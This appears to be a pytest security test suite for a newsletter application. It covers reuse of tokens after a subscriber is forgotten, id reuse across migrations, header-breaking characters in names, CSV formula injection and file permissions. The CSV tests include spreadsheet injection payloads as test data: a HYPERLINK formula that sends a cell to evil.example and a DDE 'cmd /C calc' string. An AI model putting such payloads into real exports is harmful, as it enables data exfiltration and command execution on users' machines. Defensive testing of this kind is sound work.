"""The subscriber data under attack, replayed from outside: a forgotten person's link
used again, a name no header can carry, a formula in a CSV cell, files others could read.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select, text, update
from starlette.testclient import TestClient

from digest.edges.cli import cli
from digest.edges.web.app import create_app
from digest.services.delivery.reports import describe_issue
from digest.services.feeds.collect import add_feed
from digest.services.operations.backup import backup
from digest.services.pipeline import RunRequest, run_list
from digest.services.storage.context import Context
from digest.services.storage.db import downgrade, make_engine, open_database, upgrade
from digest.services.storage.models import Delivery
from digest.services.storage.subscriber_models import Subscriber, Subscription
from digest.services.transports import Transport
from digest.services.transports.locmem import LocmemTransport
from digest.services.transports.outbox import OutboxTransport
from digest.services.transports.sendgrid import SendGridTransport
from subscribers.imports import export_csv, import_csv
from subscribers.lists import create_list
from subscribers.optin import request_subscription
from subscribers.subscriptions import (
    add_subscriber,
    find_subscriber,
    forget_subscriber,
    list_subscriptions,
)
from tests.conftest import make_settings
from tests.feedserver import FeedServer, rss
from tests.sendgrid_standin import SendGridStandIn
from tests.test_send import recap
from tests.test_smtp import Handler, smtp, smtpd  # noqa: F401 - smtpd is a fixture

# Line breaks to the email package, which it refuses in a header; names typed before
# names were cleaned where they enter may hold them.
BREAKS = {"vertical tab": "\v", "form feed": "\x0c", "line separator": "\u2028",
          "next line": "\x85"}


def client_for(ctx: Context) -> TestClient:
    return TestClient(create_app(ctx), base_url="https://digest.example",
                      follow_redirects=False)


def subscription_of(ctx: Context, email: str) -> Subscription:
    with ctx.db.session() as s:
        found = s.scalars(select(Subscription).join(
            Subscriber, Subscriber.id == Subscription.subscriber_id)
            .where(Subscriber.email == email)).one()
        return found


# --- 6: a token names one subscription forever ------------------------------------------

def test_a_forgotten_persons_links_never_reach_the_next_subscriber(any_ctx: Context) -> None:
    create_list(any_ctx.db, "weekly", "The Weekly Recap")
    add_subscriber(any_ctx.db, "weekly", "first@example.org", name="First")
    added = add_subscriber(any_ctx.db, "weekly", "ann@example.org", name="Ann")
    assert added.subscription_id is not None
    unsubscribe = any_ctx.tokens.make("unsubscribe", added.subscription_id)
    preferences = any_ctx.tokens.make("preferences", added.subscription_id)
    forget_subscriber(any_ctx.db, "ann@example.org")
    add_subscriber(any_ctx.db, "weekly", "bea@example.org", name="Bea")
    client = client_for(any_ctx)
    # Ann's links, kept in an old email (or by whoever read it), now name nobody.
    for page in (client.get(f"/u/{unsubscribe}"), client.get(f"/p/{preferences}")):
        assert page.status_code == 400
        assert "no longer valid" in page.text
        assert "bea@example.org" not in page.text and "Bea" not in page.text
    answer = client.post(f"/u/{unsubscribe}", content=b"List-Unsubscribe=One-Click",
                         headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 400 and "no longer valid" in answer.text
    assert subscription_of(any_ctx, "bea@example.org").status == "active"


def _rows_at_0010(url: str) -> None:
    """A database at 0010 (before ids were never reused) holding a list, three people
    (the newest, Cy, with a delivery) and an issue, written as that schema has them."""
    engine = make_engine(url)
    upgrade(engine, "0010")
    at = {"at": "2026-11-30 08:00:00"}
    with engine.begin() as conn:
        conn.execute(text(
            "INSERT INTO lists (name, title, description, when_nothing_matches, language, "
            "entry_parts, lead_max_chars, created_at) VALUES ('weekly', 'The Weekly "
            "Recap', '', 'skip', 'en', 'lead', 300, :at)"), at)
        for name in ("Ann", "Bo", "Cy"):
            conn.execute(text(
                "INSERT INTO subscribers (email, email_key, name, created_at) "
                "VALUES (:e, :e, :n, :at)"), {"e": f"{name.lower()}@example.org", "n": name,
                                             **at})
            conn.execute(text(
                "INSERT INTO subscriptions (subscriber_id, list_id, status, source, "
                "keywords, segment, created_at, updated_at, confirmed_at) SELECT "
                "max(subscribers.id), max(lists.id), 'active', 'cli', '[\"Iran\"]', "
                "'iran', :at, :at, :at FROM subscribers, lists"), at)
        conn.execute(text(
            "INSERT INTO issues (list_id, number, status, subject, intro, html, text, "
            "sections, window_start, window_end, created_at) SELECT id, 1, 'sent', 'Recap', "
            "'', '<p>x</p>', 'x', '[]', :at, :at, :at FROM lists"), at)
        conn.execute(text(
            "INSERT INTO deliveries (issue_id, subscriber_id, subscription_id, status, "
            "attempts, updated_at) SELECT issues.id, subscriber_id, subscriptions.id, "
            "'accepted', 1, :at FROM subscriptions, issues "
            "WHERE subscriptions.id = (SELECT max(id) FROM subscriptions)"), at)
    engine.dispose()


def test_an_upgraded_database_never_reuses_ids(tmp_path: Path, database_url: str) -> None:
    _rows_at_0010(database_url)
    ctx = Context.open(make_settings(tmp_path, database_url))  # upgrades to the head
    try:
        # Every row, its values and its references came through the rebuild.
        people = list_subscriptions(ctx.db, "weekly")
        assert [(p.email, p.name, p.keywords) for p in people] == [
            ("ann@example.org", "Ann", ["Iran"]), ("bo@example.org", "Bo", ["Iran"]),
            ("cy@example.org", "Cy", ["Iran"])]
        cy = subscription_of(ctx, "cy@example.org")
        with ctx.db.session() as s:
            [(old_delivery, issue_id)] = s.execute(select(Delivery.id, Delivery.issue_id))
        unsubscribe = ctx.tokens.make("unsubscribe", cy.id)
        # The newest person leaves with the newest delivery; the next ones get new ids.
        assert forget_subscriber(ctx.db, "cy@example.org")
        dee = add_subscriber(ctx.db, "weekly", "dee@example.org", name="Dee")
        assert dee.subscription_id is not None and dee.subscription_id > cy.id
        with ctx.db.session() as s:
            person = find_subscriber(s, "dee@example.org")
            assert person is not None and person.id > cy.subscriber_id
            delivery = Delivery(issue_id=issue_id, subscriber_id=person.id,
                                subscription_id=dee.subscription_id)
            s.add(delivery)
            s.flush()
            assert delivery.id > old_delivery  # a late SendGrid event names only Cy's
        page = client_for(ctx).get(f"/u/{unsubscribe}")
        assert page.status_code == 400 and "dee@example.org" not in page.text
        # The references still hold: a person deleted takes their subscriptions along.
        with ctx.db.session() as s:
            s.execute(text("DELETE FROM subscribers WHERE email = 'bo@example.org'"))
        assert [p.email for p in list_subscriptions(ctx.db, "weekly")] == [
            "ann@example.org", "dee@example.org"]
    finally:
        ctx.close()


def test_the_rebuild_keeps_indexes_and_goes_back(tmp_path: Path) -> None:
    from sqlalchemy import inspect
    url = f"sqlite:///{tmp_path / 'old.db'}"
    _rows_at_0010(url)
    engine = make_engine(url)
    upgrade(engine, "0011")
    schema = inspect(engine)
    assert {i["name"] for i in schema.get_indexes("subscriptions")} == {
        "ix_subscriptions_list_status", "ix_subscriptions_pending"}
    assert {k["referred_table"] for k in schema.get_foreign_keys("subscriptions")} == {
        "subscribers", "lists"}
    with engine.connect() as conn:
        created = dict(conn.execute(text(
            "SELECT name, sql FROM sqlite_master WHERE type = 'table'")).all())
        assert conn.execute(text("PRAGMA foreign_key_check")).all() == []
    for table in ("subscribers", "subscriptions", "deliveries"):
        assert "AUTOINCREMENT" in created[table]
    downgrade(engine, "0010")
    with engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM subscriptions")).scalar() == 3
        assert "AUTOINCREMENT" not in conn.execute(text(
            "SELECT sql FROM sqlite_master WHERE name = 'subscribers'")).scalar_one()
    engine.dispose()


def test_a_failed_migration_changes_nothing(tmp_path: Path) -> None:
    # The rebuild drops and renames tables: half of it must never be left behind.
    url = f"sqlite:///{tmp_path / 'old.db'}"
    _rows_at_0010(url)
    engine = make_engine(url)
    with engine.begin() as conn:  # a name the rebuild needs is taken
        conn.execute(text("CREATE TABLE _alembic_tmp_deliveries (x INTEGER)"))
    with pytest.raises(Exception, match="_alembic_tmp_deliveries"):
        upgrade(engine, "0011")
    with engine.connect() as conn:
        tables = {name for name, in conn.execute(text(
            "SELECT name FROM sqlite_master WHERE type = 'table'"))}
        assert conn.execute(text("SELECT version_num FROM alembic_version")).scalar() == "0010"
        assert conn.execute(text("SELECT count(*) FROM subscriptions")).scalar() == 3
    assert not {t for t in tables if t.startswith("_0011_")}
    engine.dispose()


# --- 7: one bad value never sinks a batch -------------------------------------------------

@pytest.fixture
def three_readers(ctx: Context, feed_server: FeedServer) -> Context:
    add_feed(ctx.db, feed_server.add("/f.xml", body=rss([recap(1)])))
    create_list(ctx.db, "weekly", "The Weekly Recap")
    for address, name in [("ann@example.org", "Ann"), ("odd@example.org", "Odd"),
                          ("cy@example.org", "Cy")]:
        add_subscriber(ctx.db, "weekly", address, name=name)
    return ctx


def _spoil(ctx: Context, name: str) -> None:
    """Give the middle reader a name as an older version stored it: uncleaned."""
    with ctx.db.session() as s:
        s.execute(update(Subscriber).where(Subscriber.email == "odd@example.org")
                  .values(name=name))


def _send_and_check(ctx: Context, transport: Transport, char: str) -> None:
    result = run_list(ctx, RunRequest("weekly"), transport=transport)
    assert result.send is not None and result.send.finished
    assert result.send.counts == {"accepted": 2, "failed": 1}
    [(address, reason)] = result.send.failures
    assert address == "odd@example.org"
    assert f"U+{ord(char):04X}" in reason and "line break" in reason
    shown = "\n".join(describe_issue(ctx, result.send.issue_id))  # digest issues show
    assert f"odd@example.org: failed: the subscriber's name holds U+{ord(char):04X}" in shown


@pytest.mark.parametrize("char", BREAKS.values(), ids=BREAKS.keys())
def test_a_name_no_header_can_carry_fails_alone_in_the_outbox(three_readers: Context,
                                                             char: str) -> None:
    _spoil(three_readers, f"Odd{char}One")
    outbox = OutboxTransport(Path(three_readers.settings.outbox_dir))
    _send_and_check(three_readers, outbox, char)
    written = sorted(p.name for p in Path(three_readers.settings.outbox_dir).rglob("*.eml"))
    assert [re.sub(r"^\d+-", "", n) for n in written] == ["ann@example.org.eml",
                                                         "cy@example.org.eml"]


@pytest.mark.parametrize("char", BREAKS.values(), ids=BREAKS.keys())
def test_a_name_no_header_can_carry_fails_alone_over_smtp(
        three_readers: Context, smtpd: tuple[Handler, int], char: str) -> None:  # noqa: F811
    handler, port = smtpd
    _spoil(three_readers, f"Odd{char}One")
    _send_and_check(three_readers, smtp(port), char)
    assert sorted(str(m["To"]) for m in handler.messages) == [
        "Ann <ann@example.org>", "Cy <cy@example.org>"]


@pytest.mark.parametrize("char", BREAKS.values(), ids=BREAKS.keys())
def test_a_name_no_header_can_carry_fails_alone_with_sendgrid(three_readers: Context,
                                                              char: str) -> None:
    standin = SendGridStandIn("SG.key")
    try:
        _spoil(three_readers, f"Odd{char}One")
        sendgrid = SendGridTransport("SG.key", host=standin.url, timeout=5.0, attempts=2,
                                     sleep=lambda s: time.sleep(min(s, 0.1)))
        _send_and_check(three_readers, sendgrid, char)
        assert dict(standin.accepted) == {"ann@example.org": 1, "cy@example.org": 1}
        assert standin.rejections == []
    finally:
        standin.close()


def _hostile(first: str, last: str) -> str:
    """A name with every kind of character a one-line field drops or makes a space."""
    return f"\u202e{first}\v\x0c\u2028\x85\t{last}\x1b\u200b"


def test_the_same_characters_come_in_clean_from_the_command_line(
        runner: CliRunner, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    env = {"DIGEST_DATABASE_URL": url}
    assert runner.invoke(cli, ["lists", "create", "--list", "weekly", "--title",
                               "The\u2028Weekly\vRecap"], env=env).exit_code == 0
    result = runner.invoke(cli, ["subscribers", "add", "Ann\u200b@Example.org", "--list",
                                 "weekly", "--name", _hostile("Ann", "Lee"),
                                 "--keywords", "Iran\x85Syria;\u2028Yemen"], env=env)
    assert result.exit_code == 0, result.output
    db = open_database(url)
    try:
        [view] = list_subscriptions(db, "weekly")
        assert (view.email, view.name, view.keywords) == (
            "Ann@example.org", "Ann Lee", ["Iran Syria", "Yemen"])
        with db.session() as s:
            assert s.scalar(text("SELECT title FROM lists")) == "The Weekly Recap"
    finally:
        db.dispose()


def test_the_same_characters_come_in_clean_from_a_csv(ctx: Context, tmp_path: Path) -> None:
    create_list(ctx.db, "weekly")
    path = tmp_path / "people.csv"
    path.write_text("email,name,keywords\n"
                    f'ann@example.org,"{_hostile("Ann", "Lee")}",Iran\u2028Syria;\vYemen\n'
                    f'"\u200bbo@example.org\u2028",Bo\x85,\n', encoding="utf-8")
    report = import_csv(ctx.db, "weekly", path)
    assert report.added == 2 and not report.rejected
    rows = {v.email: (v.name, v.keywords) for v in list_subscriptions(ctx.db, "weekly")}
    assert rows == {"ann@example.org": ("Ann Lee", ["Iran Syria", "Yemen"]),
                    "bo@example.org": ("Bo", [])}


def test_the_same_characters_come_in_clean_from_the_form(ctx: Context,
                                                         locmem: type[LocmemTransport]) -> None:
    site = Context(ctx.settings.replace(transport="locmem"), ctx.db)
    create_list(site.db, "weekly", "The Weekly Recap")
    client = client_for(site)
    form = client.get("/subscribe?list=weekly")
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf is not None
    answer = client.post("/subscribe", data={
        "csrf": csrf[1], "email": "ann@example.org", "list": "weekly", "website": "",
        "name": _hostile("Ann", "Lee"), "keywords": ["Iran\vSyria", "\u2028Yemen"]})
    assert answer.status_code == 200 and "Check your inbox" in answer.text
    [confirmation] = LocmemTransport.outbox
    assert str(confirmation["To"]) == "Ann Lee <ann@example.org>"
    [view] = list_subscriptions(site.db, "weekly")
    assert (view.name, view.keywords, view.status) == ("Ann Lee", ["Iran Syria", "Yemen"],
                                                       "pending")


def test_a_confirmation_goes_to_a_name_stored_uncleaned(ctx: Context,
                                                        locmem: type[LocmemTransport]) -> None:
    create_list(ctx.db, "weekly", "The Weekly Recap")
    add_subscriber(ctx.db, "weekly", "odd@example.org")
    with ctx.db.session() as s:
        s.execute(update(Subscriber).values(name="Odd\u2028One"))
        s.execute(update(Subscription).values(status="unsubscribed"))
    sent = request_subscription(ctx, "weekly", "odd@example.org", transport=LocmemTransport())
    assert sent.outcome == "sent"
    assert str(LocmemTransport.outbox[0]["To"]) == "Odd One <odd@example.org>"


# --- 8: CSV export can't run formulas ------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "-2+3", "+1", "@SUM(A1)",
            "'x", "'=quoted", "''-2"]


def test_an_export_runs_no_formula_and_imports_back_exactly(ctx: Context,
                                                            tmp_path: Path) -> None:
    create_list(ctx.db, "weekly")
    create_list(ctx.db, "copy")
    for i, name in enumerate(FORMULAS):
        add_subscriber(ctx.db, "weekly", f"reader{i}@example.org", name=name,
                       keywords=["=cmd|' /C calc'!A0", "Iran"] if i == 0 else ["-Iran"])
    add_subscriber(ctx.db, "weekly", "-dash@example.org", name="Dash")
    out = io.StringIO()
    export_csv(ctx.db, "weekly", out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    # What a spreadsheet would run as a formula starts with a quote now.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in out.getvalue() and "'-2+3" in cells and "'-dash@example.org" in cells
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    report = import_csv(ctx.db, "copy", path)
    assert report.added == len(FORMULAS) + 1 and not report.rejected
    again = {v.email: (v.name, v.keywords) for v in list_subscriptions(ctx.db, "copy")}
    assert again == {v.email: (v.name, v.keywords) for v in list_subscriptions(ctx.db, "weekly")}
    assert again["reader4@example.org"][0] == "'x"  # a quote of its own survives
    assert again["reader0@example.org"] == (FORMULAS[0], ["=cmd|' /C calc'!A0", "Iran"])


def test_the_rejects_csv_runs_no_formula(ctx: Context, tmp_path: Path) -> None:
    create_list(ctx.db, "weekly")
    path = tmp_path / "people.csv"
    path.write_text('email,name\n=1+1,"=HYPERLINK(""https://evil.example"")"\n'
                    "@evil,-2+3\n", encoding="utf-8")
    report = import_csv(ctx.db, "weekly", path)
    assert report.rejects_path is not None and len(report.rejected) == 2
    rows = list(csv.reader(report.rejects_path.open(encoding="utf-8")))
    assert [row[2:] for row in rows[1:]] == [
        ["'=1+1", "'=HYPERLINK(\"https://evil.example\")"], ["'@evil", "'-2+3"]]


# --- 10: private files ----------------------------------------------------------------------

@pytest.fixture
def umask_022() -> Iterator[None]:
    """The umask most systems give a user: files readable by everyone unless made not."""
    before = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(before)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_every_file_with_secrets_or_addresses_is_the_owners_alone(
        umask_022: None, tmp_path: Path, feed_server: FeedServer, runner: CliRunner) -> None:
    database = tmp_path / "digest.db"
    settings = make_settings(tmp_path, f"sqlite:///{database}")
    ctx = Context.open(settings)
    try:
        add_feed(ctx.db, feed_server.add("/f.xml", body=rss([recap(1)])))
        create_list(ctx.db, "weekly", "The Weekly Recap")
        add_subscriber(ctx.db, "weekly", "ann@example.org", name="Ann")
        result = run_list(ctx, RunRequest("weekly"))  # the outbox transport
        assert result.send is not None and result.send.counts == {"accepted": 1}
        # The database (its secret key, password hashes) and SQLite's files beside it.
        wal = database.with_name("digest.db-wal")
        shm = database.with_name("digest.db-shm")
        assert wal.exists() and shm.exists()
        assert {p.name: mode(p) for p in (database, wal, shm)} == {
            "digest.db": 0o600, "digest.db-wal": 0o600, "digest.db-shm": 0o600}
        [message] = Path(settings.outbox_dir).rglob("*.eml")
        assert mode(message) == 0o600 and mode(message.parent) == 0o700
        copy = tmp_path / "backup.db"
        backup(ctx.db.engine, copy)
        assert mode(copy) == 0o600
        rejected = tmp_path / "bad.csv"
        rejected.write_text("email\nnot-an-address\n", encoding="utf-8")
        report = import_csv(ctx.db, "weekly", rejected)
        assert report.rejects_path is not None and mode(report.rejects_path) == 0o600
    finally:
        ctx.close()
    exported = tmp_path / "people.csv"
    exported.write_text("an older file, readable by all\n", encoding="utf-8")
    done = runner.invoke(cli, ["subscribers", "export", "--list", "weekly", "--out",
                               str(exported)], env={"DIGEST_DATABASE_URL": f"sqlite:///{database}"})
    assert done.exit_code == 0, done.output
    assert mode(exported) == 0o600 and "ann@example.org" in exported.read_text("utf-8")


def test_db_check_names_a_database_others_can_read(tmp_path: Path, runner: CliRunner) -> None:
    database = tmp_path / "old.db"
    env = {"DIGEST_DATABASE_URL": f"sqlite:///{database}"}
    assert runner.invoke(cli, ["db", "upgrade"], env=env).exit_code == 0
    assert runner.invoke(cli, ["db", "check"], env=env).exit_code == 0
    database.chmod(0o644)  # as an older version left it
    checked = runner.invoke(cli, ["db", "check"], env=env)
    assert checked.exit_code == 1
    assert "open to other users (mode 644)" in checked.output
    assert f"chmod 600 {database}" in checked.output
